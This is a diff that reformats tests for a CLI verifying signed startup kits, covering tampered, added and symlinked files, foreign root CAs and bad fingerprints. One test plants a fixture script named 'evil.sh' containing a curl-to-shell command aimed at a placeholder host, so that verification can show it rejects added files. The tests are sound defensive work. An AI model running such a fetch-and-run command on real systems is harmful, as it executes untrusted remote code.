@@ -82,7 +82,12 @@ describe("cohort kit verify", { concurrency: 3 }, () => {
   test("a signed file changed (client and server kits)", async () => {
     const kit = copyKit("site-1");
     appendFileSync(join(kit, "startup", "fed_client.json"), " ");
-    assertRefused(await runCli(["kit", "verify", kit]), KitErrorCode.Tampered, join(kit, "startup", "fed_client.json"), /does not match its signature: the file was changed/);
+    assertRefused(
+      await runCli(["kit", "verify", kit]),
+      KitErrorCode.Tampered,
+      join(kit, "startup", "fed_client.json"),
+      /does not match its signature: the file was changed/,
+    );
     const server = copyKit("localhost");
     const f = join(server, "startup", "fed_server.json");
     writeFileSync(f, readFileSync(f, "utf8").replace(/"mtls"/, '"clear"'));
@@ -98,7 +103,12 @@ describe("cohort kit verify", { concurrency: 3 }, () => {
   test("a file added to startup/", async () => {
     const kit = copyKit("site-1");
     writeFileSync(join(kit, "startup", "evil.sh"), "#!/bin/sh\ncurl example.org | sh\n");
-    assertRefused(await runCli(["kit", "verify", kit]), KitErrorCode.Tampered, join(kit, "startup", "evil.sh"), /not covered by signature\.json: the file was added/);
+    assertRefused(
+      await runCli(["kit", "verify", kit]),
+      KitErrorCode.Tampered,
+      join(kit, "startup", "evil.sh"),
+      /not covered by signature\.json: the file was added/,
+    );
   });
 
   test("local/ stays editable: a changed local file does not fail verification", () => {
@@ -119,7 +129,12 @@ describe("cohort kit verify", { concurrency: 3 }, () => {
     const os = opensslTry(["verify", "-CAfile", join(kit, "startup", "rootCA.pem"), join(kit, "startup", "client.crt")]);
     assert.equal(os.ok, false, "openssl refuses the chain too");
     assert.match(os.out, /unable to get local issuer certificate/);
-    assertRefused(await runCli(["kit", "verify", kit]), PkiErrorCode.CertNotIssuedByRoot, join(kit, "startup", "client.crt"), /was not issued by this kit's root CA/);
+    assertRefused(
+      await runCli(["kit", "verify", kit]),
+      PkiErrorCode.CertNotIssuedByRoot,
+      join(kit, "startup", "client.crt"),
+      /was not issued by this kit's root CA/,
+    );
   });
 
   test("an expired certificate (issued 2 years ago for 1 day, re-signed) is refused by the CLI", async () => {
@@ -171,7 +186,12 @@ describe("cohort kit verify", { concurrency: 3 }, () => {
   test("a wrong --root-fingerprint (another project's root)", async () => {
     const kit = join(a.prodDir, "site-1");
     assert.ok(b.rootFingerprint);
-    assertRefused(await runCli(["kit", "verify", kit, "--root-fingerprint", b.rootFingerprint]), KitErrorCode.RootMismatch, join(kit, "startup", "rootCA.pem"), /does not match the expected/);
+    assertRefused(
+      await runCli(["kit", "verify", kit, "--root-fingerprint", b.rootFingerprint]),
+      KitErrorCode.RootMismatch,
+      join(kit, "startup", "rootCA.pem"),
+      /does not match the expected/,
+    );
     // A whole kit of project B, intact, is refused against project A's fingerprint.
     assert.ok(a.rootFingerprint);
     assertThrowsCode(() => verifyStartupKit(join(b.prodDir, "site-1"), { rootFingerprint: a.rootFingerprint }), KitErrorCode.RootMismatch, "rootCA.pem");
@@ -185,16 +205,13 @@ describe("cohort kit verify", { concurrency: 3 }, () => {
     assert.doesNotMatch(r.stdout, /kit OK/);
   });
 
-  test(
-    "an empty --root-fingerprint is refused as malformed, not silently skipped",
-    async () => {
-      const kit = join(a.prodDir, "site-1");
-      assertThrowsCode(() => verifyStartupKit(kit, { rootFingerprint: "" }), PkiErrorCode.BadFingerprint);
-      const r = await runCli(["kit", "verify", kit, "--root-fingerprint", ""]);
-      assert.notEqual(r.code, 0, r.stdout);
-      assert.match(r.stderr, /ERR_BAD_FINGERPRINT/);
-    },
-  );
+  test("an empty --root-fingerprint is refused as malformed, not silently skipped", async () => {
+    const kit = join(a.prodDir, "site-1");
+    assertThrowsCode(() => verifyStartupKit(kit, { rootFingerprint: "" }), PkiErrorCode.BadFingerprint);
+    const r = await runCli(["kit", "verify", kit, "--root-fingerprint", ""]);
+    assert.notEqual(r.code, 0, r.stdout);
+    assert.match(r.stderr, /ERR_BAD_FINGERPRINT/);
+  });
 
   test("a signed file replaced by a symlink (to identical bytes) is refused", () => {
     const kit = copyKit("site-1");
